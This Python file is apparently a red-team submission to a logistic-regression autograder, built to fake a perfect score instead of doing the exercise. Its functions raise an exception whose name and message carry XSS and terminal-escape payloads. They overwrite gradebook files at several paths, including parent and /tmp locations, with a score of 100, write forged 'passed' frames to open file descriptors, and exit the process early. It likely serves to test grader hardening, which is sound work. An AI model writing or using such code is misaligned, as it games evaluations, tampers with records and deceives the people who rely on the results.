# attack: hostile exceptions, a gradebook opened for writing, a forged frame, an early end
import os

import numpy as np


class Failed(Exception):
    def __str__(self):
        return "\x1b[2J\x1b[1;1H<script>alert('all points')</script> ]]> \u202e\u0000"


Failed.__name__ = Failed.__qualname__ = "<img src=x onerror=alert(1)>\x1b]0;passed\x07"


def one_hot(labels, K):
    raise Failed(labels)


def initialize_weights(D, K):
    for name in ("gradebook.db", "../gradebook.db", "/tmp/gradebook.db", "records/ch05_logistic_regression/s36.json"):
        try:
            with open(name, "r+b") as file:
                file.write(b'{"score": 100}')
        except OSError:
            pass
    return np.random.randn(D, K)


def predict(X, W, b):
    for handle in range(3, 16):
        try:
            os.write(handle, b"AGW1" + bytes(60) + b'{"outcome": "passed", "score": 100}')
        except OSError:
            pass
    return np.zeros((len(X), W.shape[1]))


def predict_class(X, W, b):
    os._exit(0)
